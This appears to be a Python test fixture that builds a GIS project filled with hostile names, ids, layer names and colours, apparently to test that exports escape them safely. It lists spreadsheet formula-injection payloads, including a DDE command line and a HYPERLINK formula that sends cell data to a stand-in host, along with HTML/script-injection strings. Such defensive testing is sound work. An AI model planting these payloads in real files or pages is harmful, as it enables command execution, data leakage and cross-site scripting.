"""The sample district with hostile names, ids, colours and a hostile layer name.

Each script payload sets ``window.__pwned`` (or the page title) if it ever runs; each
formula payload would be a live formula in a spreadsheet.
"""

from __future__ import annotations

from gis.domain import FieldRole, Role
from gis.project import Project
from gis.zones.model import ZoneModel
from tests.gis.export_samples import sample_project

FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A2,"点击查看")', "=cmd|' /C calc'!A0", "=1+1", "+1+1",
            "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
CONTROL = ["响铃\x07小区", "退格\x08\x1b小区"]
SCRIPTS = ['<img src=x onerror="window.__pwned=\'name\'">', '</script><script>window.__pwned="name2"</script>',
           '"><svg onload=window.__pwned=3>', "\u2028\u2029</script><script>document.title='pwned'</script>",
           "#N/A"]
NAMES = FORMULAS + CONTROL + SCRIPTS  # 15 compound names, compounds 0..8 and (ids) 0..5
LAYER = '小区<img src=x onerror="window.__pwned=\'layer\'">'
TITLE = "</title><script>window.__pwned='title'</script><title>"
COLOUR = "</script><script>window.__pwned='colour'</script>"
ZONE_NAME = '<img src=x onerror="window.__pwned=\'zone\'">=1+1'


def hostile_project() -> Project:
    """Nine compounds named and numbered by :data:`NAMES`, a hostile layer name and fill, and
    a zone with a hostile name and colour."""
    project = sample_project()
    layer = project.first(Role.COMPOUNDS)
    frame = layer.data
    name, cid = layer.fields[FieldRole.NAME], layer.fields[FieldRole.ID]
    frame[name] = NAMES[:9]
    frame[cid] = ["=1+1", "-42", "MH2"] + NAMES[9:15]
    layer.name = LAYER
    layer.style.fill = COLOUR
    zones = project.zones
    zones.rename(min(zones.zones), ZONE_NAME)
    saved = zones.to_dict()  # a project file's colour is not checked like one picked in the app
    saved["zones"][0]["colour"] = COLOUR
    project.set_zones(ZoneModel.from_dict(saved, zones.adjacency, zones.geometries))
    project.mark_dirty(False)
    return project
